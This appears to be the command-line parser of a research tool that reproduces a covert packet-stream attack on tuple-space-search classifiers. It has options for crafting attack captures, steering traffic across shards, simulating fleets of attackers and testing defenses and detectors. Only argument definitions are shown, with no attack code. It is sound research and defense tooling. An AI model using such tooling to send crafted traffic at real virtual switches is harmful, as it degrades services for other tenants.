    craft.add_argument("surface", choices=sorted(_campaign_surfaces()))
    craft.add_argument("output")
    craft.add_argument("--dst-ip", default="10.0.9.20")
    craft.add_argument("--rate-pps", type=float, default=None)
    craft.set_defaults(func=cmd_craft)

    scenario = sub.add_parser(
        "scenario", help="run a registered scenario via the Session API"
    )
    scenario.add_argument("name", nargs="?", default=None,
                          help="scenario name (see --list)")
    scenario.add_argument("--list", action="store_true",
                          help="enumerate scenarios and registry choices")
    scenario.add_argument("--duration", type=float, default=None)
    scenario.add_argument("--attack-start", type=float, default=None,
                          dest="attack_start")
    scenario.add_argument("--seed", type=int, default=None)
    scenario.add_argument("--profile", choices=PROFILES.names(), default=None)
    scenario.add_argument("--backend", choices=BACKENDS.names(), default=None)
    scenario.add_argument("--scan-order", choices=list(SCAN_ORDERS),
                          default=None, dest="scan_order",
                          help="TSS subtable visit order (default: profile's)")
    scenario.add_argument("--key-mode", choices=list(KEY_MODES),
                          default=None, dest="key_mode",
                          help="TSS hash-key representation (default: packed)")
    scenario.add_argument("--shards", type=int, default=None,
                          help="PMD shard count (RSS-dispatched classifier "
                          "instances; default: the profile's)")
    scenario.add_argument("--reta-size", type=int, default=None,
                          dest="reta_size",
                          help="RSS indirection-table buckets (rounded up to "
                          "a multiple of the shard count; default: the "
                          "profile's, 128)")
    scenario.add_argument("--rebalance-interval", type=float, default=None,
                          dest="rebalance_interval",
                          help="PMD auto-load-balance interval in seconds "
                          "(0 = static RSS; default: the profile's)")
    scenario.add_argument("--rebalance-improvement", type=float, default=None,
                          dest="rebalance_improvement",
                          help="minimum relative imbalance improvement "
                          "(0..1) before the auto-lb applies a remap "
                          "(needs a sharded datapath; default: the "
                          "profile's)")
    scenario.add_argument("--rebalance-load-floor", type=float, default=None,
                          dest="rebalance_load_floor",
                          help="per-PMD load (packets/s) below which the "
                          "auto-lb leaves the spread alone (needs a sharded "
                          "datapath; default: the profile's)")
    scenario.add_argument("--workload-skew", type=float, default=None,
                          dest="workload_skew",
                          help="Zipf skew of the victim's per-bucket load "
                          "(0 = uniform, ~1 = elephant flows)")
    scenario.add_argument("--attacker", choices=("naive", "spread"),
                          default=None, dest="attacker_strategy",
                          help="covert stream construction: the paper's "
                          "one-key-per-mask stream, or one hash-steered "
                          "variant per mask per PMD shard")
    scenario.add_argument("--reprobe-interval", type=float, default=None,
                          dest="reprobe_interval",
                          help="seconds between the spread attacker's "
                          "re-steers against the live RETA (0 = steer once)")
    scenario.add_argument("--defense", action="append", default=None,
                          metavar="NAME", help="activate a defense (repeatable)")
    scenario.add_argument("--csv", type=Path, default=None, metavar="DIR",
                          help="also dump the result as CSV into DIR")
    scenario.add_argument("--metrics-out", type=Path, default=None,
                          dest="metrics_out", metavar="FILE",
                          help="run with telemetry enabled and write the "
                          "metric registry (.prom/.txt: Prometheus text "
                          "exposition, else the repro.obs/v1 JSON snapshot)")
    scenario.set_defaults(func=cmd_scenario)

    trace = sub.add_parser(
        "trace", help="run a scenario with telemetry enabled and export "
        "the trace/profile/metrics artifacts"
    )
    trace.add_argument("name", help="scenario name (see 'repro scenario --list')")
    trace.add_argument("--output", type=Path, default=Path("trace-out"),
                       metavar="DIR",
                       help="artifact directory (default: trace-out/)")
    trace.add_argument("--duration", type=float, default=None)
    trace.add_argument("--attack-start", type=float, default=None,
                       dest="attack_start")
    trace.add_argument("--seed", type=int, default=None)
    trace.add_argument("--backend", choices=BACKENDS.names(), default=None)
    trace.add_argument("--shards", type=int, default=None,
                       help="PMD shard count override")
    trace.add_argument("--min-percent", type=float, default=1.0,
                       dest="min_percent",
                       help="hide profile nodes below this share of total "
                       "charged cycles (default 1.0)")
    trace.set_defaults(func=cmd_trace)

    fleet = sub.add_parser(
        "fleet", help="run a fleet campaign via the FleetSession API"
    )
    fleet.add_argument("name", nargs="?", default=None,
                       help="fleet campaign name (see --list)")
    fleet.add_argument("--list", action="store_true",
                       help="enumerate fleet campaigns and mobility policies")
    fleet.add_argument("--nodes", type=int, default=None,
                       help="hypervisor node count")
    fleet.add_argument("--mobility", default=None,
                       help="attacker mobility: static | rolling | "
                       "staggered | coordinated")
    fleet.add_argument("--dwell", type=float, default=None,
                       help="seconds the rolling attacker stays per node")
    fleet.add_argument("--stagger", type=float, default=None,
                       help="seconds between staggered joiners (0 = dwell)")
    fleet.add_argument("--fleet-defense", dest="fleet_defense", default=None,
                       choices=("none", "quarantine"),
                       help="fleet-level defense")
    fleet.add_argument("--detect-interval", dest="detect_interval",
                       type=float, default=None,
                       help="seconds between fleet detector observations")
    fleet.add_argument("--duration", type=float, default=None,
                       help="per-node campaign duration override")
    fleet.add_argument("--attack-start", dest="attack_start", type=float,
                       default=None, help="covert stream start override")
    fleet.add_argument("--seed", type=int, default=None,
                       help="base seed (nodes re-seed via shard_seed)")
    fleet.add_argument("--csv", type=Path, default=None, metavar="DIR",
                       help="dump the aggregate + per-node series into DIR")
    fleet.add_argument("--metrics-out", type=Path, default=None,
                       dest="metrics_out", metavar="FILE",
                       help="run with telemetry enabled and write the "
                       "metric registry (.prom/.txt: Prometheus text, "
                       "else JSON snapshot)")
    fleet.set_defaults(func=cmd_fleet)

    serve = sub.add_parser(
        "serve", help="long-running packet service (pcap replay or "
        "synthetic covert feed)"
    )
    serve.add_argument("scenario", nargs="?", default="k8s-serve",
                       help="scenario providing the rules/profile/shard "
                       "config (default: k8s-serve)")
    serve.add_argument("--pcap", type=Path, default=None,
                       help="replay this capture (e.g. from `repro craft`) "
                       "instead of the synthetic covert feed")
    serve.add_argument("--workers", type=int, default=0,
                       help="worker processes: 0 = the serial reference "
                       "runtime, N > 0 = the multi-process parallel "
                       "runtime with N shard workers")
    serve.add_argument("--shards", type=int, default=None,
                       help="serial-runtime shard count override "
                       "(default: the scenario's)")
    serve.add_argument("--duration", type=float, default=10.0,
                       help="synthetic feed: simulated seconds to stream "
                       "(default 10)")
    serve.add_argument("--rate-pps", type=float, default=None,
                       dest="rate_pps",
                       help="synthetic feed rate (default: the scenario's "
                       "covert rate)")
    serve.add_argument("--max-packets", type=int, default=None,
                       dest="max_packets",
                       help="stop after this many packets")
    serve.add_argument("--batch-size", type=int, default=256,
                       dest="batch_size",
                       help="pcap replay burst size (default 256)")
    serve.add_argument("--report-interval", type=float, default=1.0,
                       dest="report_interval",
                       help="simulated seconds between live snapshots")
    serve.add_argument("--detect-threshold", type=int, default=64,
                       dest="detect_threshold",
                       help="per-shard mask count that trips the alert")
    serve.add_argument("--profile", choices=PROFILES.names(), default=None)
    serve.add_argument("--seed", type=int, default=None)
    serve.add_argument("--json", type=Path, default=None, metavar="FILE",
                       help="also write the full report as JSON")
    serve.add_argument("--metrics-out", type=Path, default=None,
                       dest="metrics_out", metavar="FILE",
                       help="run with telemetry enabled and write the "
                       "metric registry (.prom/.txt: Prometheus text, "
                       "else JSON snapshot)")
    serve.set_defaults(func=cmd_serve)

    lint = sub.add_parser(
        "lint", help="run repro-lint, the repo's contract checkers "
        "(exit non-zero on non-baselined findings)"
    )
    from repro.analysis.runner import configure_parser as _configure_lint

    _configure_lint(lint)
    lint.set_defaults(func=cmd_lint)

    experiment = sub.add_parser("experiment", help="run paper experiments")
    experiment.add_argument("names", nargs="*", help="experiment ids (default: all)")
    experiment.set_defaults(func=cmd_experiment)

    demo = sub.add_parser("demo", help="print the Fig. 2 worked example")
    demo.set_defaults(func=cmd_demo)

    return parser


def main(argv: list[str] | None = None) -> int:
    """CLI entry point."""
    args = build_parser().parse_args(argv)
    return args.func(args)


if __name__ == "__main__":
    sys.exit(main())
